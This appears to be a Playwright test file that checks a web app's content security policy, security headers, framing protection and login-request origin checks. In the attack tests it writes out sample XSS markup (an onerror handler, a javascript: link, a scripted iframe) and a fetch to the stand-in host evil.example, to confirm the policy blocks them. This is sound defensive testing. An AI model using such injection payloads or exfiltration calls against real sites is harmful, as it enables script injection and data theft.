import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { loginPath, signIn } from '../fixtures/journey.ts';
import { expect, test } from '../fixtures/test.ts';

// Every test fails when a page breaks its content security policy; here it is shown that there is one to break.

for (const path of ['/', '/account', '/callback', '/problem?code=not_found', '/no/such/page']) {
  test(`${path} says what it may do, and no more`, async ({ page }) => {
    const headers = (await page.goto(path))?.headers() ?? {};
    const policy = headers['content-security-policy'] ?? '';
    for (const directive of ["default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "object-src 'none'", "connect-src 'self'"]) {
      expect(policy).toContain(directive);
    }
    expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-eval'|\*|http:/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['referrer-policy']).toBe(path === '/callback' ? 'no-referrer' : 'strict-origin-when-cross-origin');
  });
}

test.describe('an attack', () => {
  test.use({ expectedConsole: /Content Security Policy|^policy: |127.0.0.1:\d+\/favicon.ico/ });

  test('by markup that gets into a page runs no script and reaches no other host', async ({ page }) => {
    await signIn(page);
    const result = await page.evaluate(async () => {
      const markup = document.createElement('div');
      markup.innerHTML = `
        <img src="data:," onerror="window.injected = 'handler'">
        <a href="javascript:window.injected = 'address'">link</a>
        <iframe srcdoc="<script>parent.injected = 'frame'</script>"></iframe>`;
      const loaded = ['img', 'iframe'].map(
        (name) => new Promise((done) => ['load', 'error'].forEach((event) => markup.querySelector(name)?.addEventListener(event, done))),
      );
      document.body.append(markup);
      markup.querySelector('a')?.click();
      await Promise.all(loaded);
      const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
        () => true,
        () => false,
      );
      return { injected: 'injected' in window, sent };
    });
    expect(result).toEqual({ injected: false, sent: false });
  });

  test('by a site that puts the app into a frame shows an empty frame', async ({ page, server }) => {
    const paths = ['/', '/callback', '/api/v1/session'];
    const frames = paths.map((path) => `<iframe src="${server.url}${path}"></iframe>`);
    const other = createServer((_request, response) => response.setHeader('content-type', 'text/html').end(frames.join('')));
    await once(other.listen(0, '127.0.0.1'), 'listening');
    const failures: (string | undefined)[] = [];
    page.on('requestfailed', (request) => failures.push(request.failure()?.errorText));
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    const shown = () => page.frames().slice(1).map((frame) => frame.url());
    await expect.poll(shown).toEqual(paths.map(() => 'chrome-error://chromewebdata/'));
    // The answers came, and their headers forbade it.
    expect(failures).toEqual(paths.map(() => 'net::ERR_BLOCKED_BY_RESPONSE'));
    other.closeAllConnections();
    other.close();
  });
});

test('a page of another site cannot start a login', async ({ page, server, context }) => {
  await page.goto(`${server.demoProviderUrl}/`);
  await page.evaluate((address) => location.assign(address), server.url + loginPath());
  await expect(page.getByRole('heading', { level: 1, name: 'This request did not come from this app' })).toBeVisible();
  expect((await context.cookies(server.url)).filter(({ name }) => name.startsWith('tx-'))).toEqual([]);
});
